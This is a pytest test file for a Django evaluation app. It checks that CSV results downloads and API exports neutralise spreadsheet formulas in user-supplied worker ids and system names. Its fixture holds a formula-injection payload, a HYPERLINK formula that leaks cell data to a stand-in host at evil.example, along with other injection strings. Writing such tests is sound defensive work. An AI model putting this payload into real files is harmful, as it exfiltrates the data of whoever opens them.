"""Every CSV download and export neutralises spreadsheet formulas in what users typed (worker ids,
system names): such a cell starts with an apostrophe, never with =, +, -, @ (numbers excepted)."""
import csv
import io

import pytest
from django.test import Client

from annotation.services.judgment_import import import_judgments
from evaluation.analyses import compute_results
from evaluation.families import family_of
from evaluation.presenters.common import tables_of

from .test_results_pages import da_lines, pairwise_lines

pytestmark = pytest.mark.django_db
WORKER = '=HYPERLINK("http://evil.example/?leak="&A1;"click")-'
SYSTEMS = ("@SUM(1+1)", "+cmd")


def _rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode())))


def _formula_cells(rows: list[list[str]]) -> list[str]:
    bad = []
    for cell in (c for row in rows for c in row):
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            try:
                float(cell)
            except ValueError:
                bad.append(cell)
    return bad


@pytest.fixture
def campaigns(researcher):
    da = import_judgments(da_lines(careful=2, clickers=1, systems=("=sys-A", "sys-B", "-sys-C"), worker_prefix=WORKER),
                          fmt="wmt-da", name="Formula DA", owner=researcher).campaign
    lines = [line.replace(b"rater-", WORKER.replace(",", ";").encode() + b"rater-")
             .replace(b"MT", SYSTEMS[0].encode()).replace(b"Human", SYSTEMS[1].encode())
             for line in pairwise_lines()]
    pairwise = import_judgments(lines, fmt="pairwise-csv", name="Formula pairwise", systems=list(SYSTEMS),
                                owner=researcher).campaign
    for campaign in (da, pairwise):
        compute_results(campaign)
    return [da, pairwise]


def test_every_download_and_export_escapes_formulas(campaigns, api, researcher):
    client = Client()
    client.force_login(researcher)
    checked = 0
    for campaign in campaigns:
        urls = [f"/results/{campaign.slug}/{name}.csv" for name in tables_of(family_of(campaign))]
        urls += [f"/api/campaigns/{campaign.slug}/judgments/?format=csv",
                 f"/api/campaigns/{campaign.slug}/approvals/?format=csv"]
        for url in urls:
            response = (api if url.startswith("/api/") else client).get(url)
            assert response.status_code == 200, url
            rows = _rows(response)
            assert _formula_cells(rows) == [], url
            checked += 1
        export = "".join(",".join(r) for r in _rows(api.get(f"/api/campaigns/{campaign.slug}/judgments/?format=csv")))
        assert "'" + WORKER.split(",")[0][:20] in export  # the worker id is there, as text
    assert checked == 18  # DA: 8 tables (stability included) + 2 exports; pairwise: 6 + 2
